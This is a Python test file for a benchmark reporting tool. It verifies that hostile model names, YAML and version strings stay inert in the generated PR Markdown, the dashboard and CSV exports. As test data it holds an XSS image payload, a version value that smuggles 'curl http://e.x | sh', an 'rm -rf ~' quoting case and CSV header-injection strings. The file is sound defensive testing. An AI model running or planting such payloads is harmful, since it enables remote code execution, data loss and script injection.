"""User text cannot break out of what specbench writes: PR Markdown, the dashboard, CSV headers (issue 10 §5).

Rendering goes through markdown-it with raw HTML enabled, the way GitHub treats a comment: what would be a
tag there is a tag here.
"""

from __future__ import annotations

import re
from datetime import UTC, datetime
from pathlib import Path

import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from analysis import md, report
from analysis.compare import compare_runs
from analysis.export import EXPORT_COLUMNS, RUN_METADATA, Export, document, read_csv_rows, to_markdown
from tests.fixtures.markdown import assert_inert, markdown_tables, render
from tests.fixtures.report_data import KEYS, RUN_A, RUN_B, report_points, report_samples
from tests.paths import REPO_ROOT

HOSTILE = "m`x``|y```\n</details><img src=x onerror=alert(1)> [l](http://e.x) ![i](http://e.x/p.png) *b* ~~s~~ $x$ &amp;"
HOSTILE_YAML = "name: x\n````\n</details>\n<img src=x onerror=alert(1)>\n```\n~~~\nmodel: '|'\n"


@pytest.fixture
def table() -> pd.DataFrame:
    a = report_points(100, dict(zip(KEYS, [1000.0, 1500.0, 1700.0, 2900.0], strict=True)))
    b = report_points(200, dict(zip(KEYS, [1001.0, 1490.0, 1530.0, 3132.0], strict=True)))
    return compare_runs(a, report_samples(a), b, report_samples(b))


def test_pr_comment_with_hostile_names_and_yaml_stays_inert(table: pd.DataFrame) -> None:
    hostile = table.copy()
    hostile["model"] = [HOSTILE, "plain", HOSTILE, "plain"][: len(hostile)]  # two models: a Model column
    hostile["why"] = HOSTILE
    hostile["config"] = HOSTILE
    run_a = {**RUN_A, "model": HOSTILE, "sweep_name": HOSTILE, "host": HOSTILE, "sweep_yaml": HOSTILE_YAML}
    run_b = {
        **RUN_B,
        "sglang_version": '0.5.14"; curl http://e.x | sh; "',
        "sglang_commit": "abc`</details>",
        "sweep_yaml": HOSTILE_YAML + "x: 1\n",
    }
    markdown = report.to_markdown(hostile, run_a, run_b)
    html = render(markdown)
    # The report's own: "Reproduce both runs", holding each run's sweep YAML folded in its own block.
    assert_inert(html, own_details=3)
    tables = markdown_tables(markdown)
    assert len(tables) == 2
    assert all(len(row) == 3 for row in tables[0][1]), tables[0][1]  # provenance: no cell split, no row added
    head, rows = tables[1]
    assert len(rows) == len(hostile) and all(len(r) == len(head) for r in rows)
    # Both YAMLs are shown whole, each inside one code block (the hostile fence did not close it).
    blocks = re.findall(r"<pre><code class=\"language-yaml\">(.*?)</code></pre>", html, flags=re.S)
    assert len(blocks) == 2 and all("&lt;/details&gt;" in b and "````" in b for b in blocks)
    # The reproduce commands are one quoted word per value: no second command from a stored version.
    bash = re.findall(r"<pre><code class=\"language-bash\">(.*?)</code></pre>", html, flags=re.S)
    assert len(bash) == 2
    assert "--label 'candidate-0.5.14\"; curl http://e.x | sh; \"'" in bash[1].replace("&quot;", '"')


def test_markdown_helpers() -> None:
    assert md.code("a`b``c") == "```a`b``c```"
    assert md.code("`x") == "`` `x ``"
    assert md.code("a|b") == "`a\\|b`"
    assert md.fence("x\n`````\ny", "yaml") == ["``````yaml", "x", "`````", "y", "``````"]
    assert md.text("a\nb\tc") == "a b c"
    assert md.text("# h", line_start=True) == "\\# h"
    assert md.text("1. x", line_start=True) == "1\\. x"
    assert md.text("0.5.13") == "0.5.13"  # mid-line text keeps its dots
    assert md.shell("a b; rm -rf ~") == "'a b; rm -rf ~'"
    html = render(md.text(HOSTILE))
    assert_inert(html, own_details=0)


def _export(model: str) -> Export:
    run = dict.fromkeys(RUN_METADATA)
    run.update(id=1, sweep_name=model, model=model, status="done", started_at="2026-12-01T00:00:00")
    row = dict.fromkeys(EXPORT_COLUMNS)
    row.update(run_id=1, point_id=1, status="ok", batch_size=4, reason="a\n#b,c", output_throughput=1234.5)
    return Export(runs=[run], rows=[row], all_status=False)


def test_csv_header_is_one_line_per_field_and_reads_back() -> None:
    model = "evil\n# injected: row\r\n\x00tail \\ end"
    text = document(_export(model)).text("csv")
    header = [line for line in text.splitlines() if line.startswith("#")]
    # "# run 1", one line per metadata field, "# points: ..."; a value cannot add a line.
    assert len(header) >= len(RUN_METADATA) + 2
    assert "#   model: evil\\n# injected: row\\r\\n\\x00tail \\\\ end" in header
    assert not any(line.startswith("# injected") for line in text.splitlines())
    rows = read_csv_rows(text)
    assert len(rows) == 1
    assert rows[0]["reason"] == "a\n#b,c"  # a quoted value's line starting with '#' is data, not header
    assert rows[0]["output_throughput"] == "1234.5"


def test_export_markdown_with_hostile_names_stays_inert() -> None:
    html = render(to_markdown(_export(HOSTILE)))
    assert_inert(html, own_details=0)
    assert html.count("<tr>") == 2  # header and the one point


def test_dashboard_renders_the_report_without_raw_html(
    sqlite_url: str, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    from db.migrate import open_database
    from synthetic.history import SMALL_SHAPE
    from synthetic.history.seed import seed_history

    eng = open_database(sqlite_url)
    seed_history(eng, 80, shape=SMALL_SHAPE, end=datetime(2026, 11, 30, tzinfo=UTC), seed=3)
    from sqlalchemy import text

    with eng.begin() as c:  # a hostile model name and sweep, as a stored run would carry them
        c.execute(text("UPDATE runs SET model = :m, sweep_yaml = :y"), {"m": HOSTILE, "y": HOSTILE_YAML})
    eng.dispose()
    monkeypatch.setenv("DATABASE_URL", sqlite_url)
    at = AppTest.from_file(str(REPO_ROOT / "dashboard" / "app.py"), default_timeout=60)
    at.run()
    for page in ["pages/overview.py", "pages/compare.py"]:
        at.switch_page(page).run()
        if page == "pages/compare.py":
            at.toggle(key="cmp_preview").set_value(True).run()  # the PR comment preview, drawn when asked
        assert not at.exception, [e.value for e in at.exception]
        assert not [m.value for m in at.markdown if m.proto.allow_html], page
        for m in (m for m in at.markdown if m.value.startswith("| ")):  # tables: a name stays in its cell
            html = render(m.value)
            assert "<img" not in html and "<details>" not in html, page
            links = re.findall(r'<a href="([^"]*)"', html)
            assert all(a.startswith(("trends?", "sweep?")) for a in links), links  # the table's own links
            assert all(len(row) == len(head) for head, rows in markdown_tables(m.value) for row in rows)
    # The PR comment preview is among them, with the hostile model escaped.
    assert any("&lt;/details&gt;" in render(m.value) for m in at.markdown)


def test_compare_refusal_writes_stored_names_as_text(
    sqlite_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Runs that do not compare: the reason and the nearest comparison name the runs' model and GPU, which
    are stored text (a CI run under load once took this path on the hostile database and drew links)."""
    from sqlalchemy import text

    from db.migrate import open_database
    from synthetic.history import SMALL_SHAPE
    from synthetic.history.seed import seed_history

    eng = open_database(sqlite_url)
    seed_history(eng, 80, shape=SMALL_SHAPE, end=datetime(2026, 11, 30, tzinfo=UTC), seed=3)
    with eng.begin() as c:
        c.execute(text("UPDATE runs SET model = :m, gpu_name = :m"), {"m": HOSTILE})
        ids = [int(i) for i in c.execute(text("SELECT id FROM runs ORDER BY id")).scalars()]
        # One run measured, the rest synthetic: a Δ between them is refused, with the nearest comparison.
        c.execute(text("UPDATE runs SET simulated = 0, \"trigger\" = 'nightly' WHERE id = :i"), {"i": ids[0]})
    eng.dispose()
    monkeypatch.setenv("DATABASE_URL", sqlite_url)
    at = AppTest.from_file(str(REPO_ROOT / "dashboard" / "app.py"), default_timeout=60)
    at.run()
    at.switch_page("pages/compare.py")
    at.query_params["a"], at.query_params["b"] = str(ids[0]), str(ids[-1])
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    said = [w.value for w in at.warning] + [i.value for i in at.info]
    refusal = [s for s in said if "a Δ between them compares two kinds of numbers" in s.replace("\\", "")]
    nearest = [s for s in said if s.startswith("Nearest meaningful comparison")]
    assert refusal and nearest, said
    for shown in [*refusal, *nearest]:
        html = render(shown)
        # No element from a name: the hostile host appears in text nodes only, never in a tag or attribute.
        assert "<img" not in html and "e.x" not in re.sub(r">[^<]*<", "><", html), html
        assert "<em>" not in html and "<s>" not in html and "<details>" not in html, html
    # The page's own link stays one.
    assert re.search(r'<a href="(compare\?a=|sweep\?run=)', render(nearest[0]))
